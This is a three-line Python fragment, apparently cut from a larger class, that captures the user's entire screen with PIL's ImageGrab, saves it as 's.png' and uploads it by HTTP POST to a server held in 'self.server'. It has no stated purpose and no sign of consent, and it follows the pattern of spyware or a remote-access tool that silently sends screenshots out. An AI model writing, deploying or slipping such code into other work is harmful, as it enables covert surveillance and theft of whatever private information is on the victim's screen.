from PIL import ImageGrab
ImageGrab.grab().save("s.png")
requests.post(self.server, files={"f": open("s.png", "rb")})
